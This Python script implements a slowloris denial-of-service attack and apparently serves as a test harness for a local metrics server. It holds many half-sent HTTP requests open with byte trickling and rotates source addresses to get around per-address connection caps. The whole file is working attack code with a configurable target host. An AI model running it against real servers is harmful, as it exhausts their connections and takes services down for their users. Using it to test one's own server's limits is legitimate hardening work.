#!/usr/bin/env python3
"""
slowloris.py — opens many TCP connections to an HTTP server, sends each an
unfinished request (the request line and one header line, no blank line)
and holds them, adding one byte to the open header every --trickle seconds
so that an idle timeout alone never closes them. Connections are spread
over the given source addresses (any 127.x.y.z works on Linux loopback), so
a per-address connection cap can be exercised or avoided.

    slowloris.py --port P [--conns 1000] [--sources 127.0.1.1-100] [--hold 30]
                 [--trickle 5] [--ready-file F]

Writes the ready file (if given) once every connection has been tried, and
prints one JSON object at the end:
  tried       connections attempted
  connected   connect() succeeded
  refused     connect() failed (refused, reset, EMFILE...)
  closed_early  closed by the server within 2 s of connecting: turned away
              by a connection cap (libmicrohttpd accepts and closes)
  alive_end   still open when the hold ended (the server kept them)
  closed_later  closed by the server during the hold (its timeout)
"""

import argparse
import errno
import json
import resource
import select
import socket
import time

REQUEST_HEAD = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: a"


def sources(spec):
    """'127.0.1.1-100' -> 127.0.1.1 ... 127.0.1.100; 'a,b' -> [a, b]."""
    out = []
    for part in spec.split(","):
        if "-" in part:
            base, last = part.rsplit("-", 1)
            prefix, first = base.rsplit(".", 1)
            out += ["%s.%d" % (prefix, i) for i in range(int(first), int(last) + 1)]
        else:
            out.append(part)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--sources", default="127.0.0.2")
    ap.add_argument("--hold", type=float, default=30)
    ap.add_argument("--trickle", type=float, default=5)
    ap.add_argument("--ready-file")
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.conns + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    srcs = sources(a.sources)
    poller = select.poll()
    socks = {}          # fd -> [socket, connected_at]
    res = {"tried": 0, "connected": 0, "refused": 0, "closed_early": 0, "alive_end": 0,
           "closed_later": 0, "sources": len(srcs)}
    errors = {}
    for i in range(a.conns):
        res["tried"] += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((srcs[i % len(srcs)], 0))
            s.settimeout(2)
            s.connect((a.host, a.port))
            s.sendall(REQUEST_HEAD)
            s.setblocking(False)
        except OSError as e:
            res["refused"] += 1
            name = errno.errorcode.get(e.errno, str(e))
            errors[name] = errors.get(name, 0) + 1
            s.close()
            continue
        res["connected"] += 1
        socks[s.fileno()] = [s, time.monotonic()]
        poller.register(s.fileno(), select.POLLIN | select.POLLHUP | select.POLLERR)
    if a.ready_file:
        with open(a.ready_file, "w") as f:
            f.write("%d\n" % len(socks))

    start = time.monotonic()
    next_trickle = start + a.trickle
    while time.monotonic() - start < a.hold:
        for fd, ev in poller.poll(200):
            s, t0 = socks.pop(fd)
            poller.unregister(fd)
            if time.monotonic() - t0 <= 2.0:
                res["closed_early"] += 1
            else:
                res["closed_later"] += 1
            s.close()
        if time.monotonic() >= next_trickle:
            for fd in list(socks):
                try:
                    socks[fd][0].send(b"a")
                except OSError:
                    pass
            next_trickle += a.trickle
    res["alive_end"] = len(socks)
    res["connect_errors"] = errors
    for s, _ in socks.values():
        s.close()
    print(json.dumps(res))


if __name__ == "__main__":
    main()
